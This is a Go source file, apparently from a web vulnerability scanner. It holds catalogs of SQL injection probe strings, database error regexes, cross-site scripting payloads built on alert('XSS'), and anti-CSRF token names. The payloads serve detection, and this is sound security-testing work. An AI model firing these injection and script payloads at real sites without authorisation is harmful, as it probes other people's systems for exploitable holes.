package detector

import "regexp"

// sqliPayloads are appended to a parameter value to provoke a database error.
// The order decides which payload is reported when several succeed.
var sqliPayloads = []string{
	"'",
	"\"",
	"--",
	";",
	" OR 1=1 --",
	"' OR 1=1 --",
	"\" OR 1=1 --",
	"' OR '1'='1",
	"\" OR \"1\"=\"1",
	"' OR 'a'='a",
	"\" OR \"a\"=\"a",
	"1' OR '1'='1",
	"' OR 1=1#",
	"\" OR 1=1#",
	"' OR '1'='1'; --",
	"1 AND 1=1",
	"1 AND 1=2",
	"1' AND '1'='1",
	"1' AND '1'='2",
}

// errorSignature is a database error message pattern.
type errorSignature struct {
	// source is the pattern as written, quoted in the finding evidence.
	source string
	re     *regexp.Regexp
}

func newErrorSignature(source string) errorSignature {
	return errorSignature{source: source, re: regexp.MustCompile("(?i)" + source)}
}

// sqlErrorSignatures are checked in order against every response body.
var sqlErrorSignatures = []errorSignature{
	newErrorSignature(`you have an error in your sql syntax`),
	newErrorSignature(`unclosed quotation mark`),
	newErrorSignature(`warning: mysql_fetch_array\(\)`),
	newErrorSignature(`ORA-\d{5}:`),
	newErrorSignature(`SQLSTATE\[\d+\]: Syntax error or access violation`),
	newErrorSignature(`\[SQLServer\]`),
	newErrorSignature(`\[Microsoft\]\[ODBC SQL Server Driver\]`),
	newErrorSignature(`nvarchar to int`),
}

// xssPayloads cover script tags, event handlers and script URIs.
var xssPayloads = []string{
	"<script>alert('XSS')</script>",
	"<ScRiPt>alert('XSS')</ScRiPt>",
	"\"><script>alert('XSS')</script>",
	"'><script>alert('XSS')</script>",
	"<img src=x onerror=alert('XSS')>",
	"<img src=x onerror=alert(String.fromCharCode(88,83,83))>",
	"<svg/onload=alert('XSS')>",
	"javascript:alert('XSS');",
	"JaVaScRiPt:alert('XSS');",
	"data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4=",
	"<details/open/ontoggle=alert('XSS')>",
	"<iframe src=\"javascript:alert('XSS');\"></iframe>",
	"<a href=\"javascript:alert('XSS')\">Click me</a>",
	"<object data=\"javascript:alert('XSS')\"></object>",
	"<embed src=\"javascript:alert('XSS')\"></embed>",
	"<form action=\"javascript:alert('XSS')\"><input type=\"submit\"></form>",
	"<marquee onstart=alert('XSS')>XSS</marquee>",
	"<body onload=alert('XSS')>",
	"<!--<script>alert('XSS')</script>-->",
}

// csrfTokenNames are the anti-CSRF field naming conventions. A field whose
// name contains any of them, ignoring case, counts as a token.
var csrfTokenNames = []string{
	"csrf_token",
	"CSRFToken",
	"authenticity_token",
	"_token",
	"xsrf_token",
	"nonce",
	"__RequestVerificationToken",
}

// SQLiPayloads returns a copy of the SQL injection payload catalog.
func SQLiPayloads() []string {
	return append([]string(nil), sqliPayloads...)
}

// XSSPayloads returns a copy of the XSS payload catalog.
func XSSPayloads() []string {
	return append([]string(nil), xssPayloads...)
}

// CSRFTokenNames returns a copy of the anti-CSRF token name catalog.
func CSRFTokenNames() []string {
	return append([]string(nil), csrfTokenNames...)
}
